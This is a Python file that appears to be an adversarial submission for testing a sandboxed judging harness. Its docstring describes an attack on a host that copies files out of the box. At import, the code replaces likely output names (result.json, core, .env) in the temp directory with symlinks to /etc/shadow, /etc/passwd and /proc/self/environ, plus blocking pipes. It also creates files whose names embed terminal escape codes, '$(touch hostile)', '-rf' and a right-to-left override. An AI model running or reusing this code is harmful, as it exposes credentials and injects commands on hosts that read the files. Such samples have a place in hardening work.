"""Leaves links and special files where the host may read them.

Mechanism: makes every file of /tmp that a program might fetch from a box (core, result, log, library) a link to
  the host's passwords, a pipe that blocks its reader, or a folder; the names hold text that a terminal would
  act on.
Surface: a host that copies files out of a box by name, as its own user.
Gain: the file that the link names, read with the host's rights and shown in the report.
Challenge: twice
Defence: runtime_error
Secret: /etc/shadow, /etc/passwd
"""

import contextlib
import os
import tempfile

HERE = os.environ.get("TMPDIR", tempfile.gettempdir())
NAMES = (
    "result.json report.json output.txt log.txt out.so solution.so core verdict stdout stderr .env".split()
)
NAMES += ["\x1b[2J\x1b]0;hostile\x07", "$(touch hostile)", "-rf", "a\nb", "\u202egnp.exe"]

for number, name in enumerate(NAMES):
    path = os.path.join(HERE, name)
    with contextlib.suppress(OSError):
        os.unlink(path)
    with contextlib.suppress(OSError):
        if number % 4 == 3:
            os.mkfifo(path)
        else:
            os.symlink(("/etc/shadow", "/etc/passwd", "/proc/self/environ")[number % 3], path)


def solve(x, out, n):
    raise RuntimeError(f"{len(os.listdir(HERE))} left for whoever reads them")
